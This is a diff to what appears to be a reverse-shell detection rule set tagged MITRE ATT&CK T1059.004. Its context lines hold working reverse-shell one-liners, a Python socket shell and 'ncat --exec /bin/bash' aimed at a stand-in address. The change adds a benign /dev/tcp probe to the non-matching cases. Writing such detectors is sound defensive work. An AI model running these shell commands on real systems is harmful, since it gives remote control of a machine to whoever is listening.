@@ -69,7 +69,14 @@ RULES = (
             'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",9));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])\'',
             "ncat --exec /bin/bash 192.0.2.1 9",
         ),
-        ("nc -zv 192.0.2.1 22", "echo > /dev/tcp/192.0.2.1/22", "socat -V", "telnet 192.0.2.1 25", "ncat -l 9000 > f"),
+        (
+            "nc -zv 192.0.2.1 22",
+            "echo > /dev/tcp/192.0.2.1/22",
+            "exec 3<>/dev/tcp/192.0.2.1/22; exec 3>&-",
+            "socat -V",
+            "telnet 192.0.2.1 25",
+            "ncat -l 9000 > f",
+        ),
         references=("MITRE ATT&CK T1059.004",),
         matches=(
             match(
